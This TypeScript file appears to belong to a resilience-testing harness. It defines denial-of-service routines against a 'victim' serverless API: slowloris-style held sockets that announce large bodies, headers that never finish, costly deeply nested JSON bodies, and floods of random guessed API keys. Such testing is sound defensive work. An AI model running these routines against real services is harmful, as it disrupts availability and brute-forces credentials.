import { systemClock, systemRandom } from '@berth/lifecycle';
import { Pool } from 'undici';
import type { Attack, AttackTarget } from './attack.js';
import { holdSockets } from './open-sockets.js';

const ANNOUNCED_BYTES = 20 * 2 ** 20;
const KEYS_PER_ROUND = 20;
const ROUND_MS = 100;
const CONNECTIONS = 10;

const post = (endpointId: string, headers: readonly string[]): string =>
  [
    `POST /v2/${endpointId}/runsync HTTP/1.1`,
    'Host: victim',
    'Content-Type: application/json',
    ...headers,
    '',
    '{',
  ].join('\r\n');

/** Large bodies are announced without a key, and one byte is sent. */
export const announceWithoutKey: Attack = holdSockets({
  sockets: 100,
  opening: ({ target }) => post(target.victimEndpointId, [`Content-Length: ${ANNOUNCED_BYTES}`]),
});

/** The same with a key of the attacker's own. */
export const announceWithKey: Attack = holdSockets({
  sockets: 60,
  opening: ({ target: { tenant } }) =>
    post(tenant.endpointId, [`Authorization: Bearer ${tenant.apiKey}`, `Content-Length: ${ANNOUNCED_BYTES}`]),
});

/** Headers that never end. */
export const unfinishedHeaders: Attack = holdSockets({
  sockets: 200,
  opening: ({ target }) => `GET /v2/${target.victimEndpointId}/health HTTP/1.1\r\nHost: victim\r\nX-Slow: `,
});

/** One body of millions of tiny lists at a time, again and again: nothing costs a parser more. */
export const costlyJson: Attack = async ({ target: { runUrl, tenant }, signal, tally }) => {
  const pool = new Pool(runUrl, { connections: 1 });
  const request = {
    method: 'POST',
    path: `/v2/${tenant.endpointId}/runsync?wait=1000`,
    headers: { authorization: `Bearer ${tenant.apiKey}`, 'content-type': 'application/json' },
    body: `{"input":{"a":[${'[],'.repeat(Math.floor((ANNOUNCED_BYTES - 64) / 3))}[]]}}`,
  } as const;
  while (!signal.aborted) {
    try {
      const { body, statusCode } = await pool.request({ ...request, signal });
      await body.dump();
      tally.note(`answered ${statusCode}`);
    } catch {
      tally.note('reset');
    }
    await systemClock.sleep(ROUND_MS, signal);
  }
  await pool.destroy();
};

/** Keys that look right and that nobody was given, some 200 a second, at both APIs. */
export const randomKeys: Attack = async ({ target, signal, tally }) => {
  const pools = ORIGINS.map((origin) => new Pool(target[origin], { connections: CONNECTIONS }));
  const ask = async (pool: Pool, path: string): Promise<void> => {
    try {
      const authorization = `Bearer bk_${systemRandom.id(8)}_${systemRandom.id(40)}`;
      const { body, statusCode } = await pool.request({ method: 'GET', path, headers: { authorization } });
      await body.dump();
      tally.note(`answered ${statusCode}`);
    } catch {
      tally.note('reset');
    }
  };
  while (!signal.aborted) {
    const [run, base] = pools as [Pool, Pool];
    const rounds = Array.from({ length: KEYS_PER_ROUND / 2 }, () => [
      ask(run, `/v2/${target.victimEndpointId}/health`),
      ask(base, '/v2/serverless'),
    ]);
    await Promise.all([...rounds.flat(), systemClock.sleep(ROUND_MS, signal)]);
  }
  await Promise.all(pools.map((pool) => pool.destroy()));
};

const ORIGINS = ['runUrl', 'baseUrl'] as const satisfies readonly (keyof AttackTarget)[];
